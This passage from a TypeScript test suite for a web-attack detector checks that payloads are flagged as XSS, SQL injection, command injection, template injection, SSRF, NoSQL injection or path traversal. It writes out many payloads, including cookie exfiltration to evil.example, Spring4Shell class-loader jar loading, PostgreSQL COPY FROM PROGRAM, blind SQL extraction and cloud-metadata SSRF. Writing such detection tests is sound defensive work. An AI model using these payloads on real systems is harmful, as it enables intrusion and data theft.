  for (const x of bodies) for (const opening of ['<script module>\nfunction f(a) {\n  return a\n}\n', '<script context="module">\nconst a = 1\n', '<script>\nconst a = 1\n']) t.ok(json({ snippet: `${opening}${x}\n</script>\n` }).includes('xss'), `${opening.slice(0, 24)} ${x}`)
  for (const v of ['<script module>\nexport const x = 1</script >x<img src=x onerror="alert(1)">\n</script>\n', '<script module>\nexport const x = 1</script\t>x<img src=x onerror=alert(1)>\n</script>\n', '<textarea>\n<script>\nconst a = 1\n1</textarea>x<img src=x onerror=alert(1)>\n</script>\n', '<!--\n<script>\nconst a = 1\n1-->x<img src=x onerror=alert(1)>\n</script>\n']) t.ok(json({ snippet: v }).includes('xss'), v.slice(0, 60))
  for (const v of ["1' o<>r 1=1#", '1 un\\ion sel\\ect 1,2', "x' a<>nd 1=2 un<>ion sel<>ect 1,2,3#", '1 un<>ion sel<>ect 1,2,3']) t.ok(q(v).includes('sqli'), v)
  t.ok(detector.detect({ ...base, query: `picUrl=${encodeURIComponent('.//../config/database.php')}` }).includes('path_traversal'), 'a ./ with a doubled slash before a climb')
  // still a page's own: an export first, an import first, a component's handler declared
  for (const v of ['<script lang="ts" context="module">\n  export const prerender = true;\n</script>\n', "<script>\nimport x from 'y'\nconst a = 1\n</script>\n", '<script setup>\nconst onload = () => {}\nconst a = 1\n</script>\n']) t.same(json({ snippet: v }), [], v.slice(0, 60))
})

t.test("(fifty-ninth round's second review, Chromium) quotes that start no string; a fetching global named as a value; another origin's address in a constructor; a component's own open(), Audio and EventSource", async (t) => {
  for (const v of [
    "<script setup>\nconst r = /'/; alert(1); const s = /'/\n</script>\n",
    "<script setup>\nconst a = 1 /* ' */; alert(2) /* ' */\n</script>\n",
    "<script setup>\nconst t = setTimeout\nt('alert(4)')\n</script>\n",
    "<script setup>\nconst f = fetch\nf('//evil.test/5')\n</script>\n",
    "<script setup>\nconst a = 1\nnew FontFace('x', 'url(//evil.test/8)').load()\n</script>\n",
    '<script>\nconst a = 1\nopen("//evil.example/?"+escape(name))\n</script>\n',
  ]) t.ok(json({ snippet: v }).includes('xss'), v.slice(0, 70))
  for (const v of [
    '<script setup>\nconst audio = new Audio(props.src)\nconst play = () => audio.play()\n</script>\n',
    "<script setup>\nimport { useFileDialog } from '@vueuse/core'\nconst { files, open, reset } = useFileDialog({ accept: 'image/*' })\nconst pick = () => open()\n</script>\n",
    "<script setup>\nimport { ref } from 'vue'\nconst visible = ref(false)\nfunction open() { visible.value = true }\ndefineExpose({ open })\n</script>\n",
    "<script setup>\nimport { onMounted } from 'vue'\nonMounted(() => {\n  const source = new EventSource('/api/stream')\n})\n</script>\n",
    "<script setup>\nconst label = 'Please confirm (this)'\nconst x = ref('alert')\n</script>\n",
  ]) t.same(json({ snippet: v }), [], v.slice(0, 70))
  for (const v of ["To list tables, query information\\_schema.tables where table\\_schema = 'public'.", "select table_name from information\\_schema.tables where table_schema = 'public'"]) t.same(q(v), [], v)
})

t.test("(sixtieth round, tuned on the spent hundred-and-forty-first and -second parts) a conversion probe; a module importing its GraphQL tag; PHP's foreach by reference; a script's tail; a component's header comment and Babel's blocks; a Dockerfile's comment inside RUN", async (t) => {
  for (const v of ["convert(int,'hen'+'tai') -- hehe", 'convert(int,@@version)', 'CONVERT(INT,db_name())--', "1+convert(int,'x')", "cast('a' as int)--"]) t.ok(q(v).includes('sqli'), v)
  for (const v of ['convert(int, price)', 'cast to int', 'How to convert(int, string) in T-SQL?', 'cast(price as int)', 'CAST(NOW() AS INT)', "cast('42' as int)", "convert(float, '1.5')", 'cast(rand() as int)', "1 + cast('5' as int)"]) t.notOk(q(v).includes('sqli'), v)
  // (review, each ran `id` in dash and bash: a variable after `as &` is a command's name unless it closes PHP's parenthesis; second
  // review: a foreach's own)
  for (const v of ['c=id;echo as &$c', 'c="cat /etc/hostname";x as &$c', 'x as &$SHELL</tmp/x', 'c=id;(: as &$c)', 'c=id;if (: as &$c) then :; fi', 'a&&c=id&&(: as &$c)']) t.ok(q(v).includes('rce'), v)
  for (const v of ["CAST('NaN' AS FLOAT)", "cast('Infinity' as float)", "CAST('1e3' AS FLOAT)", "CAST('0x1F' AS INT)", "CAST('true' AS INTEGER)", "CAST('12px' AS INTEGER)"]) t.notOk(q(v).includes('sqli'), v)
  for (const v of [
    "import gql from 'graphql-tag';\n\nconst SET_ITEM = gql`\n  mutation setItem($id: UUID!, $complete: Boolean!) {\n    setItem(input: { id: $id, complete: $complete }) {\n      id\n      complete\n    }\n  }\n`;\n",
    "import { gql } from '@apollo/client'\nexport const ME = gql`\n  query me($id: ID!) {\n    user(id: $id) { id name }\n  }\n`\n",
    '$s = $this->m->get();\nforeach ($s as &$x) {\n  f($x);\n}',
    'defineProps({\n  label: String,\n  isOn: Boolean,\n});\n</script>\n',
    "<script setup lang=\"ts\">\n/**\n * @ignore\n * Contains: GeneralTab\n */\n\nimport { trans } from '@common/i18n-renderer'\nconst a = ref(1)\n</script>\n",
    "<script type=\"text/babel\">\n  import Modal from '../common/Modal.vue';\n  import 'vue-awesome/icons/arrow-left';\n\n  export default {\n    components: { Modal },\n  }\n</script>\n",
    "<script setup lang=\"ts\">\n/**\n * Description: the initial tab for the about window.\n */\n\nimport { trans } from '@common/i18n-renderer'\n</script>\n",
    "<script>\n  import 'vue-awesome/icons/exclamation-triangle';\n  import 'vue-awesome/icons/key';\n\n  export default {\n    name: 'app',\n  }\n</script>\n",
    "<script>\n  \"use strict\";\n\n  import FileIcon from './common/FileIcon.vue';\n\n  export default {\n    components: { FileIcon },\n  }\n</script>\n",
    'FROM debian:sid-slim\nLABEL maintainer="a@b.example"\nRUN apt-get update && \\\n    apt-get -y install curl && \\\n    # a newer version from pip\n    pip3 install dulwich\nWORKDIR /code\n',
  ]) t.same(json({ snippet: v }), [], v.slice(0, 60))
  for (const [v, cls] of [
    ["import gql from 'graphql-tag'\nconst Q = gql`\n  query q { a }\n`\nx=`\nwget evil.example\n`", 'rce'],
    ['x = 1;\n</script>\n<img src=x onerror=alert(1)>', 'xss'],
    ['<b>x</b>\n</script>', 'xss'],
    ['<script type="text/babel">\n  import a from "b";\n  alert(document.cookie)\n</script>\n', 'xss'],
    ['<script setup>\n/* x */\nconst a = 1\nfetch("//evil.example/" + document.cookie)\n</script>\n', 'xss'],
    ['FROM debian\nENV A=1 \\\n    # c\n    B=2\nRUN id\nUSER x\n;id', 'rce'],
    ['<script setup>\n/* window. */\nimport a from "b"\nwindow.location = "//evil.example"\n</script>\n', 'xss'],
    ["<script>\n  import 'x';\n  alert(1)\n</script>\n", 'xss'],
    // (review, each ran script or fetched in Chromium)
    ['<script\u00a0setup>\n/* <img src=x onerror=alert(document.domain)> */\nconst a = 1\n</script>\n', 'xss'],
    ["<script\ufeff>\n/* <img src=x onerror=alert(1)> */\nimport 'x'\n</script>\n", 'xss'],
    ['<script>\n/* <img src=x onerror=alert(1)> */\nconst a = 1\n</script>\n', 'xss'],
    ["<script>\n/*<!--<script>*/\nconst a = 1 /*\n</script>\n*/ import('//127.0.0.1:8123/m.js')\n</script>\n", 'xss'],
    ['<script>\n/**\n * @file header <!--<script>\n */\n"use strict";\nconst a = 1 /*\n</script>\n*/ alert(1)\n</script>\n', 'xss'],
    ['<script>\nconst a = "<!--<script>" /*\n</script>\n*/ top.alert(2)\n</script>\n', 'xss'],
    ['<script lang="ts>\nimport " src=data:,alert(1)// ">\n</script>\n', 'xss'],
    ['<script lang="ts>\nconst a = "  >alert(1)//"\n</script>\n', 'xss'],
    ['x\n</script>\n<style>body{background:url(//127.0.0.1:8123/bg)}</style>\n', 'xss'],
    // (review, each ran `id` in dash and bash)
    ["import gql from 'graphql-tag'\necho gql`{\nid\n}`", 'rce'],
    ["import gql from 'graphql-tag'\necho gql`query\nid\n`", 'rce'],
    ["import gql from 'graphql-tag'\necho gql`fragment f on T {\nid\n}`", 'rce'],
    ["echo gql`{\nid\n}`\nimport gql from 'graphql-tag'", 'rce'],
    ['FROM node:20-alpine\nWORKDIR /app\nRUN npm ci\\\n#;id\nCMD ["node", "server.js"]', 'rce'],
    // (second review: in dash and bash, and Chromium)
    ["import gql from 'graphql-tag'\n#gql`query q($a: T) {\nid\n}`", 'rce'],
    ["import { gql } from '@apollo/client'\nx='\nconst A = gql`query q($a: T) {\n';id;'`", 'rce'],
    ['<img alt="\n<script setup>\n/* " src=x onerror="alert(1)/* */\nconst a = 1 //"\n</script>', 'xss'],
    ['<img alt="\n<script setup>\nconst a = 1 //" src=x onerror="this.src=\'http://127.0.0.1:8000/p\'" x="\n</script>\n">', 'xss'],
    ['<script>\n"use strict";\nconst a = 1\ndocument.write("<img src=x onerror=alert(1)>")\n</script>\n', 'xss'],
  ] as const) t.ok(json({ snippet: v }).includes(cls), `still read: ${v.slice(0, 60)}`)
})

t.test("(sixtieth round, after the reviews, tuned on the spent hundred-and-forty-third and -fourth parts) Spring's type operator and a class loaded by name in an expression; the working directory's substitution in a documented command", async (t) => {
  for (const v of ['${T(System).getenv()}', '#{T(java.lang.Math).random()}', '${classLoader.loadClass("Exploit").newInstance()}', '${Class.forName("x")}']) t.ok(q(v).includes('ssti'), v)
  for (const v of ['${total}', 'Price: ${T}', '#{t}', '${name}.forName']) t.notOk(q(v).includes('ssti'), v)
  for (const v of ['# with pinned version\ndocker run -v $(pwd):/bruno usebruno/cli:3.3.0-debian run\n```', '# run it\ndocker run --rm -v $(pwd):/home/node/apidoc apidoc/apidoc -o outputdir -i inputdir\n~~~']) t.same(json({ body: v }), [], v.slice(0, 60))
  for (const v of ['a $(pwd) b;id', '$(pwd);id', 'x;$(whoami)', '$($(pwd))', ';$(pwd)/../../bin/sh -c id', 'sudo $(pwd)/../../bin/sh -c id']) t.ok(q(v).includes('rce'), v)
})

t.test("(sixty-first round, tuned on the spent hundred-and-forty-second, -fourth and -sixth parts) a statement's own closing `;`; a server's name read only called; a migration opening on its schema's routine; a query handed over in double quotes", async (t) => {
  for (const v of [
    "SELECT evergreen.upgrade_deps_block_check('0898', :eg_version);",
    "INSERT INTO config.upgrade_log (version) VALUES ('0531'); --gmc",
    "SELECT a FROM b WHERE c = 'x';",
    "SELECT evergreen.upgrade_deps_block_check('1395', :eg_version);\n\nDELETE FROM actor.org_unit_setting WHERE name IN (\n    'opac.did_you_mean.low_result_threshold',\n    'search.symspell.soundex.weight'\n);",
    '$categories_RET = DBGet( "SELECT ID,TITLE\n\tFROM attendance_code_categories\n\tWHERE SYEAR=\'" . UserSyear() . "\'\n\tAND SCHOOL_ID=\'" . UserSchool() . "\'" );',
    '    cursor.execute("""\n        SELECT type, id, filename FROM attachment ORDER BY type, id\n        """)\n    for row in cursor:\n        move(env, *row)',
  ]) t.same(json({ snippet: v }), [], v.slice(0, 60))
  for (const v of [
    'select version()', 'select user()', 'select @@version', 'select database();', 'SELECT user FROM mysql.user;', 'select * from users where id=1; select version()',
    "copy myfile from '/etc/passwd';", "copy t to program 'id';", "SELECT 1;\nDELETE FROM t WHERE name = 'x';", "SELECT sys.fn_x('a');\nDELETE FROM t WHERE a = 'x';",
    "SELECT a.b('x');\nselect * from users union select 1,2;", "x' SELECT a FROM b WHERE c = 1", 'x" UNION SELECT password FROM users--', 'x"; DROP TABLE users--',
    "SELECT a FROM b; DROP TABLE c", "x' or '\" . $x . \"'='\" . $x . \"", 'x" or "1"="1',
  ]) t.ok(q(v).includes('sqli'), v)
  // (review, each injecting in MariaDB, PostgreSQL or SQLite, or by T-SQL's batches: clauses and statements after a double quote, comments
  // hiding a later line, a `select` program closing an application's parenthesis, COPY's other strings and targets, bare `user`)
  for (const v of [
    "admin\" having (select substr(password,1,1) from users where name='admin')='s' -- ",
    "admin\" order by sleep(2)-- ",
    "admin\" order by sleep(2)#",
    "admin\" group by name having (select count(*) from users where name='admin' and password like 's%')-- ",
    "admin\" limit 1 offset (select case when (select substr(password,1,1) from users where name='admin')='s' then 0 else 1 end)-- ",
    "admin\" order by randomblob(300000000)-- ",
    "users\" where 1=1 -- ",
    "users\" where name like '%' -- ",
    "users\" drop table logs--",
    "users\" delete from logs--",
    "users\" update users set password='x' where name='admin'--",
    "users\" insert into admins(name) values ('evil')--",
    "users\" exec sp_addsrvrolemember 'evil','sysadmin'--",
    "users\" shutdown--",
    "users\" truncate table logs--",
    "users\" declare @q varchar(99) set @q='x' exec(@q)--",
    "select 1); --\rdelete from users; --",
    `select 1); -- ${'x'.repeat(210)}\ndelete from users; --`,
    `select 1);\n${'-- c\n'.repeat(9)}delete from users; --`,
    "select app.f(1));\ncopy t from program 'id';\n--",
    "select app.f(1));\nupdate users set password = 'x' where name = 'admin';\n--",
    "select app.f(1));\nselect pg_sleep_for('3 s');\n--",
    "select app.f(1));\nselect current_setting('data_directory')::int;\n--",
    "select public._users('{}')::text);\ndelete from users;\n--",
    "copy t from E'/tmp/rv1/secret.txt';",
    "copy t from $$/srv/app/.env$$;",
    "copy (select password from users) to '/tmp/rv1-pgout.txt';",
    "copy users to '/var/www/html/u.csv';",
    "select user;",
    // (second look, in PostgreSQL and MariaDB: what the lexer and an engine read apart hid a parenthesis — `#` PostgreSQL's XOR, `$$…$$`
    // its string, `--1` MariaDB's minus)
    "select app.f(1 # 1)\n);\ncopy t(s) from program 'id';\nselect (1",
    "select app.f(1 # 1)\n);\ndelete from users;\nselect (1",
    "select app.f(length($$($$)));\ndelete from users;\nselect (1",
    "select app.f(length($q$($q$)));\ncopy t(s) from program 'id';\nselect (1",
    "select app.f(1 --1)\n);\ndelete from users;\nselect (1",
    "select app.f(1 --1)\n);\nupdate users set password = 'x' where name = 'admin';\nselect (1",
  ]) t.ok(q(v).includes('sqli'), v.slice(0, 80))
  for (const v of ["COPY country FROM '/usr1/proj/bray/sql/country_data'", "copy weather from 'weather.csv' delimiter ',' csv header"]) t.notOk(q(v).includes('sqli'), v)
  // a recon program's output piped on (the spent hundred-and-forty-third part's `whoami | grep root`)
  for (const v of ['whoami | grep root', 'netstat -an | grep 443', 'net user | findstr admin', 'whoami && id', 'whoami | grep root | head -1', 'whoami | sort']) t.ok(q(v).includes('rce'), v)
  // (review) titles, invoices, chat and a cheat sheet's rows: an English word after the separator needs a shell's arguments only
  for (const v of ['whoami | the best', 'ping -c 3 localhost | tail -1', 'whoami | Find me on GitHub', 'whoami | More about me', 'Ipconfig | Find your IP address on Windows', 'Net 30 | Date: 2024-05-01', 'net 30; date of invoice 2024-05-01', 'which date | time works for you?', 'which file; type it in', 'tasklist | ps | List running processes', 'whoami | id | Current user', 'Sysinfo | Hostname: web01 | Uptime: 3 days', 'printenv | env | Show environment']) t.notOk(q(v).includes('rce'), v)
  // a preprocessor's partial imported from the same site (the spent hundred-and-forty-sixth part's Vue style blocks); a plain block's
  // extensionless import is still read (thirty-third round), and a preprocessor's from another origin
  for (const v of ["<style lang=\"scss\" scoped>\n\n  @import './internal/language-names';\n\n  .globe {\n    right: -4px;\n  }\n</style>\n", "<style lang=\"scss\" scoped>\n  @import '~kolibri-design-system/lib/styles/definitions';\n</style>\n"]) t.same(json({ snippet: v }), [], v.slice(0, 60))
  for (const v of ["<style>@import 'evil'</style>", "<style>@import'http://0r.pe/xss.css';</style>", '<style>@import url(//evil.example/x);</style>', '<style>@import "x";</style>', '<style lang="scss">@import "//evil.example/x";</style>', '<style lang="scss">@import "http://evil.example/x";</style>', "<style>@import 'x'; body{background:url(javascript:alert(1))}</style>", "<style>@import 'a';</style><img src=x onerror=alert(1)>"]) t.ok(q(v).includes('xss'), v)
})

t.test('(sixty-second round, the spent hundred-and-thirty-ninth and -forty-third parts\' misses) a field named for the class loader (Spring4Shell); `$jsonSchema` in brackets', async (t) => {
  const pair = (query: string) => detector.detect({ ...base, query })
  for (const v of [
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
    'class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT',
    'class.classLoader.URLs%5B0%5D=jar:http://evil.example/x.jar!/',
    "class%5B'classLoader'%5D.resources=x",
  ]) t.ok(pair(v).includes('rce'), v)
  t.ok(q('class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i').includes('rce'), 'in a value too')
  // (second look, in Spring's WebDataBinder 4.3 on OpenJDK 17: the field-default `!` and a nested property's path reach the loader too)
  for (const v of ['!class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', 'address.class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', '!address.Class.Module.ClassLoader.marker=x', 'CLASS.MODULE.CLASSLOADER.MARKER=x', 'cLaSs.MoDuLe.ClAsSlOaDeR.marker=x']) t.ok(pair(v).includes('rce'), v)
  // (second look) an advisory's, a rule's or a question's text naming the path is no assignment
  for (const v of ['Block requests whose parameters contain class.module.classLoader (CVE-2022-22965).', 'alert http any any -> any any (msg:"Spring4Shell"; content:"class.module.classLoader"; http_client_body;)', 'Spring4Shell: why class.classLoader.URLs[0] was blocked in 2010 (CVE-2010-1622)']) t.same(json({ description: v }), [], v)
  for (const v of ['class.name=x', 'classes.classloader=1', 'classLoader=x', 'myclass.classLoader.x=1']) t.notOk(pair(v).includes('rce'), v)
  for (const v of ['def url = this.class.classLoader.getResource("config.yml")', 'InputStream in = getClass().getClassLoader().getResourceAsStream("a");']) t.notOk(q(v).includes('rce'), v)
  // (review) not a question's or a snippet's `class.classLoader` in a value: only Spring4Shell's own paths there
  for (const v of ['Why does class.classLoader.getResource() return null in Groovy?', "see class['classLoader'].x", 'def cl = class.classLoader.parent']) t.notOk(q(v).includes('rce'), v)
  t.ok(q('x=1&class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/').includes('rce'), 'its URLs assigned in a value')
  // `$jsonSchema` in a field's brackets, as `$ne` is read there
  for (const v of ['%5B%24jsonSchema%5D%5Bproperties%5D%5Busername%5D%5Btype%5D=string', 'filter[$jsonSchema][required][0]=password']) t.ok(pair(v).includes('nosqli'), v)
  // (second look: qs and PHP's parse_str ignore what follows the last `]`, `user[$ne](=1` is `{user: {$ne: '1'}}`; a Markdown link naming
  // an operator, `[$regex](https://…)`, stays read, a known false positive)
  for (const v of ['user[$ne](=1', 'user[$regex](x)=^a', 'user%5B%24ne%5D%28=1']) t.ok(pair(v).includes('nosqli'), v)
})

t.test("(sixty-second round, after its measurement, tuned on the spent hundred-and-fifty-first and -second parts) IPv6 literals carrying an internal IPv4 address; a userinfo's `%2F` as the application has it", async (t) => {
  const pair = (query: string) => detector.detect({ ...base, query })
  // 6to4, NAT64's well-known prefix and the IPv4-compatible form of loopback and private addresses, under a parameter named for a URL
  for (const v of ['https://[2002:7f00:0001::]/file.txt', 'https://[2002:c0a8:0101::]/x', 'https://[2002:6440:0001::]/x', 'https://[64:ff9b::7f00:1]/x', 'https://[64:ff9b::127.0.0.1]/x', 'https://[64:ff9b::a9fe:a9fe]/latest/meta-data/', 'https://[::127.0.0.1]/x', 'https://[::a00:1]/x', 'http://[::192.168.1.1]:8080/']) t.ok(pair(`image_url=${encodeURIComponent(v)}`).includes('ssrf'), v)
  // a public address in the same embeddings, documentation's prefix, a public IPv6 address, and no parameter named for a URL
  for (const v of ['https://[2002:0808:0808::]/x', 'https://[64:ff9b::808:808]/x', 'https://[::8.8.8.8]/x', 'https://[2001:db8::1]/x', 'https://[2606:4700::1111]/x']) t.notOk(pair(`image_url=${encodeURIComponent(v)}`).includes('ssrf'), v)
  t.notOk(pair(`q=${encodeURIComponent('https://[2002:7f00:0001::]/x')}`).includes('ssrf'), 'not under a parameter named for a URL')
  for (const v of ['https://[2002::]/', 'https://[::2]/']) t.notOk(pair(`image_url=${encodeURIComponent(v)}`).includes('ssrf'), `0.0.0.0/8 embedded, no host: ${v}`)
  // the application receives `http://attacker.com%2F@127.0.0.1/` (sent encoded once more): its parser reads 127.0.0.1 as the host
  t.ok(pair('callback=http%3A%2F%2Fattacker.com%252F%40127.0.0.1%2F').includes('ssrf'), 'a userinfo with an escaped slash')
  t.notOk(pair('callback=http://attacker.com%2F@127.0.0.1/').includes('ssrf'), 'the application has http://attacker.com/@127.0.0.1/: the host is attacker.com')
  // (second look) a PHP class's name under a key naming a class stays read as a drive-rooted path: PHP on Windows opens `\\a\\b` at the
  // current drive's root, and `module`, `controller`, `handler` or a `type` are what applications include files by
  for (const v of ['\\Loans\\Common\\Model', '\\Www\\Uploads\\Shell', '\\Jenkins\\Secrets\\InitialAdminPassword', '\\laragon\\tmp\\sess_5f2a9c0b1e3d4f6a7b8c9d0e1f2a3b4c', '\\xampp8\\php\\logs\\php_error_log']) {
    t.ok(json({ model_namespace: v }).includes('path_traversal'), v)
    t.ok(json({ module: v }).includes('path_traversal'), v)
  }
})

t.test("(sixty-third round, tried and taken back) a client-side template's block stays read: injected before a page's own, it is the one the engine renders", async (t) => {
  // the reviews' payloads, each run in Chromium by the engine's own code (Underscore, Vue 2, Handlebars 3 and 4, Mustache, Hogan, Ractive)
  // rendering the block a page looks up by id: a block's tags taken off, its content hid the handler from the markup's reading
  for (const v of [
    '<script type="text/template" id="t"><% window.ran=1 %></script>',
    '<script type="text/x-template" id="t"><img src="x" v-on:error="window.ran=1"></script>',
    '<script type="text/x-template" id="t"><img src="x" @error="import(\'//evil.example/x.js\')"></script>',
    '<script type="text/x-handlebars-template" id="t"><img src=x {{!x}}onerror="window.ran=1"></script>',
    '<script type="text/x-mustache" id="t"><img src=x o{{!x}}nerror="window.ran=1"></script>',
    '<script type="text/x-handlebars-template" id="t"><img src=x{{#if 1}} {{/if}}onerror="window.ran=1"></script>',
    '<script type="text/x-mustache" id="t">{{=[ ]=}}<img src=x o[!x]nerror="window.ran=1"></script>',
  ]) {
    t.ok(q(v).includes('xss'), v)
    t.ok(json({ v }).includes('xss'), `${v} (JSON)`)
  }
})

t.test('warmUp: a detector led through its readings once answers as a fresh one', async (t) => {
  const warmed = defaultDetector()
  warmed.warmUp()
  const fresh = defaultDetector()
  for (const query of ['q=' + encodeURIComponent("1' OR 1=1-- "), 'q=hello', 'a=1&b=' + encodeURIComponent('<img src=x onerror=alert(1)>'), 'u=' + encodeURIComponent('http://169.254.169.254/')]) {
    t.same(warmed.detect({ ...base, query }), fresh.detect({ ...base, query }), query)
  }
})

